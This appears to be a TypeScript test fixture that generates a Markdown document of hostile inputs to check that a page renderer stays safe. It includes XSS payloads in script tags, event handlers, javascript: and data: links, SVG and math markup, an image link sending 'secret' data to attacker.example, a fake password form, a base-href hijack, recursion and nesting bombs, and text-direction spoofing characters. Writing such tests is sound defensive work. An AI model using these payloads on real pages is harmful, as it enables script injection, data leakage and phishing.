/** What a page must show without running, loading or breaking anything. */
export function writeHostile(): string {
  const columns = Array.from({ length: 40 }, (_, index) => `c${index}`);
  const row = (cells: readonly string[]) => `| ${cells.join(" | ")} |`;
  const rows = Array.from({ length: 120 }, (_, line) => row(columns.map((_, index) => `${line}.${index}`)));
  return [
    "# Hostile <b>heading</b> <script>window.__hostile = 1</script>",
    "<script>window.__hostile = 1</script>",
    '<img src="https://attacker.example/pixel.png" onerror="window.__hostile = 1">',
    "![tracking](https://attacker.example/pixel.png?data=secret)",
    "![by reference][pixel]",
    "[pixel]: https://attacker.example/reference.png",
    "[click me](javascript:window.__hostile=1) [entity](&#106;avascript:window.__hostile=1) [data](data:text/html,<script>window.__hostile=1</script>) [vb](vbscript:msgbox)",
    '[title](https://example.com "\\" onmouseover=\\"window.__hostile=1")',
    "<https://example.com/<script>> and www.example.com and <javascript:window.__hostile=1>",
    '<iframe src="https://attacker.example"></iframe><object data="https://attacker.example"></object><form action="https://attacker.example"><input name="password"></form>',
    '<a href="https://attacker.example" style="position:fixed;inset:0">cover</a><style>body{display:none}</style><base href="https://attacker.example/">',
    '<svg onload="window.__hostile=1"><animate onbegin="window.__hostile=1"/></svg><math><mtext><img src=x onerror=window.__hostile=1></mtext></math>',
    "$\\href{javascript:window.__hostile=1}{x}$ and $\\includegraphics{https://attacker.example/a.png}$ and $\\htmlData{x=1}{y}$",
    "$$\\def\\a{\\a\\a}\\a$$ and an unclosed $$\\frac{1}{",
    "```html\n<script>window.__hostile = 1</script>\n```",
    '```"><img src=x onerror=window.__hostile=1>\ncode with a hostile language name\n```',
    `${"> ".repeat(60)}deep quote`,
    `${Array.from({ length: 40 }, (_, depth) => `${"  ".repeat(depth)}- level ${depth}`).join("\n")}`,
    `${"*".repeat(500)} ${"[".repeat(500)} ${"`".repeat(99)} ${"_a".repeat(400)}`,
    `A word without an end: ${"x".repeat(3000)}`,
    "Text that turns around: \u202Egnp.exe\u202C and hides\u200B\u200B in\u2066visible\u2069 marks \u0007.",
    `${row(columns)}\n${row(columns.map(() => "---"))}\n${rows.join("\n")}`,
    "[^note] and a footnote.\n\n[^note]: <img src=x onerror=window.__hostile=1>",
    "```\nan unclosed fence with <script>window.__hostile = 1</script>",
  ].join("\n\n");
}
